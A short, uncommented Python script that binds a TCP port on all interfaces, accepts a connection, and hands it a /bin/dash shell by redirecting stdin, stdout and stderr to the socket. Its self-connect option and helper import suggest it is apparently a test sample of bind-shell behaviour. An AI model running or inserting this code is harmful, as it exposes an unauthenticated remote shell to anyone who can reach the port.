import os
import socket
import sys
import time
from wait import rest

server = socket.create_server(("0.0.0.0", int(sys.argv[1])))
client = socket.create_connection(("127.0.0.1", int(sys.argv[1]))) if sys.argv[2] == "self" else None
connection, _ = server.accept()
if os.fork() == 0:
    for descriptor in (0, 1, 2):
        os.dup2(connection.fileno(), descriptor)
    os.execv("/bin/dash", ["sh"])
connection.close()
time.sleep(0.3)
rest()
